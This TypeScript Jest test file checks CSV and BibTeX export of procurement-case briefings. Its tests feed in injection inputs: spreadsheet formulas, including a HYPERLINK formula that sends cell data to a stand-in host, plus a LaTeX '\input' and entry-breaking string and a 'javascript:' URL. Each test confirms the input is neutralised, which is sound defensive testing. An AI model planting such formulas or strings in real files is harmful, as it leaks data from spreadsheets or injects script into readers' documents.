import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { composeBriefing } from '../content/compose-briefing.js';
import { caseRecord, found, material, need } from '../content/material.fixture.js';
import type { Material } from '../content/material.js';
import { BRIEFING_LANGUAGES, TEXTS, type BriefingLanguage } from '../texts/index.js';
import { bibDocument } from './bib-document.js';
import { csvDocument } from './csv-document.js';

const contentOf = (of: Material = material(), language: BriefingLanguage = 'en') =>
  composeBriefing(of, {
    ...{ language, version: 1, algorithm: 'a', address: null },
    preparedAt: new Date('2026-03-09T12:00:00Z'),
  });

const ofCase = (stated: Parameters<typeof caseRecord>[0]): Material =>
  material({ cases: [found(caseRecord(stated))], suppliers: [] });

/** As a reader of RFC 4180 takes it apart. */
function rowsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  const cells = [...csv.slice(1).matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)];
  expect(cells.map(([whole]) => whole).join('')).toBe(csv.slice(1));
  for (const [, quoted, end] of cells) {
    rows.at(-1)!.push(quoted!.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** As BibTeX takes it apart: it counts every brace, also one after a backslash. */
function entriesOf(bib: string): { key: string; fields: Record<string, string> }[] {
  return bib.split(/\n\n/).map((entry) => {
    const [, key, lines] = /^@misc\{([a-z0-9-]+),\n((?: {2}\w+ = \{.*\},\n)+)\}\n?$/.exec(entry)!;
    const fields = [...lines!.matchAll(/^ {2}(\w+) = \{(.*)\},$/gm)].map(([, name, value]) => {
      let depth = 0;
      for (const character of value!) {
        if (character === '{') depth += 1;
        if (character === '}') depth -= 1;
        expect(depth).toBeGreaterThanOrEqual(0);
      }
      expect(depth).toBe(0);
      return [name!, value!];
    });
    return { key: key!, fields: Object.fromEntries(fields) };
  });
}

describe('the comparison as CSV', () => {
  it('has a row for each case, the closest first, with what the briefing says of it', () => {
    const content = contentOf();
    const csv = csvDocument(content);
    const [headings, ...rows] = rowsOf(csv);

    expect(csv.startsWith('\ufeff"Title",')).toBe(true);
    expect(headings).toEqual([
      ...['Title', 'Country', 'Years', 'Procedure', 'Budget in euros', 'Results', 'What was learnt'],
      ...['Suppliers', 'Source', 'Record ID', 'Footnotes'],
    ]);
    const notes = content.footnotes.filter(({ record }) => record.id === 'sms-reminders');
    expect(rows[0]).toEqual([
      ...['Text messages against missed appointments', 'Lithuania', '2019–2021'],
      ...['Procurement of innovative solutions (PPI)', '110000'],
      ...['Missed appointments fell by 38 percent within a year.'],
      ...['Old phone numbers were the main hindrance.', 'Remindable Oy; Other Oy'],
      ...['https://example.org/sms', 'sms-reminders', notes.map(({ number }) => number).join('; ')],
    ]);
    expect(rows[1]!.slice(0, 5)).toEqual([
      ...['Ρομπότ τηλεφωνεί σε ασθενείς', 'Greece', '2022'],
      ...['Procurement of innovative solutions (PPI)', '2400000'],
    ]);
    expect(rows[2]!.slice(0, 10)).toEqual([
      ...['A case of few words', '', '', '', '', '', '', ''],
      ...['https://example.org/silent', 'silent'],
    ]);
    expect(rows).toHaveLength(3);
  });

  it.each(BRIEFING_LANGUAGES)('has headings in %s, each another', (language) => {
    const [headings] = rowsOf(csvDocument(contentOf(material(), language)));

    expect(headings).toHaveLength(11);
    expect(new Set(headings).size).toBe(11);
    expect(headings![3]).toBe(TEXTS[language].labels.procedure);
  });

  it('has headings alone where no case was found', () => {
    expect(rowsOf(csvDocument(contentOf(material({ cases: [] }))))).toHaveLength(1);
  });

  it.each(['=HYPERLINK("http://x.example?"&A1,"Open")', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '＝1+1'])(
    'makes no formula of %j',
    (title) => {
      const csv = csvDocument(contentOf(ofCase({ title, suppliers: [title] })));
      const [, row] = rowsOf(csv);

      expect(row![0]).toBe(`'${title}`);
      expect(row![7]).toBe(`'${title}`);
    },
  );

  it('gives back any other title as it was', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, unit: 'grapheme' }), (title) => {
        const [, row] = rowsOf(csvDocument(contentOf(ofCase({ title }))));
        expect([title, `'${title}`]).toContain(row![0]);
        expect(row![0]).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});

describe('the cited records as BibTeX', () => {
  it('have an entry each, with what is stated of them', () => {
    const content = contentOf();
    const entries = entriesOf(bibDocument(content));

    expect(entries.map(({ key }) => key)).toEqual([
      ...['challenge-missed-appointments', 'knowledge-sms-reminders', 'knowledge-robot', 'knowledge-silent'],
      ...['supplier-remindable', 'supplier-quiet'],
    ]);
    expect(entries[0]!.fields).toEqual({
      author: '{Kaunas clinics}',
      title: '{Patients miss outpatient appointments}',
      language: 'en',
      note: 'challenge missed-appointments, revision 3, read on March 9, 2026',
    });
    expect(entries[1]!.fields).toEqual({
      author: '{Example library}',
      title: '{Text messages against missed appointments}',
      year: '2021',
      language: 'en',
      url: 'https://example.org/sms',
      note: 'knowledge item sms-reminders, revision 2, read on March 9, 2026',
    });
    expect(entries[2]!.fields).toMatchObject({
      title: '{Ρομπότ τηλεφωνεί σε ασθενείς}',
      year: '2022',
      language: 'el',
    });
  });

  it('say in the language of the briefing when they were read', () => {
    const [first] = entriesOf(bibDocument(contentOf(material(), 'lt')));

    expect(first!.fields.note).toMatch(/, skaityta 2026 m\. kovo 9 d\.$/);
  });

  it('escape what has a meaning in BibTeX or LaTeX, and nothing else', () => {
    const title = '}}, note = {x} \\input{a} 50 % R&D_#1 $5 ~^ "ą" Ελ\n@misc{evil,';
    const [, entry, ...others] = entriesOf(bibDocument(contentOf(ofCase({ title, sourceName: title }))));

    const escaped =
      '{\\textbraceright{}\\textbraceright{}, note = \\textbraceleft{}x\\textbraceright{} ' +
      '\\textbackslash{}input\\textbraceleft{}a\\textbraceright{} 50 \\% R\\&D\\_\\#1 \\$5 ' +
      '\\textasciitilde{}\\textasciicircum{} "ą" Ελ @misc\\textbraceleft{}evil,}';
    expect(entry!.fields.title).toBe(escaped);
    expect(entry!.fields.author).toBe(escaped);
    expect(others).toEqual([]);
  });

  it.each([
    ['https://example.org/a%20b?c=1&d={e}', 'https://example.org/a%20b?c=1&d=%7Be%7D'],
    ['javascript:alert(1)', undefined],
  ])('has of the address %s what is one of the web, unescaped', (sourceUrl, url) => {
    const [, entry] = entriesOf(bibDocument(contentOf(ofCase({ sourceUrl }))));

    expect(entry!.fields.url).toBe(url);
  });

  it('stay apart whatever titles they have', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, unit: 'binary' }), (title) => {
        const of = { ...ofCase({ title }), need: need({ title }) };
        expect(entriesOf(bibDocument(contentOf(of)))).toHaveLength(2);
      }),
    );
  });
});
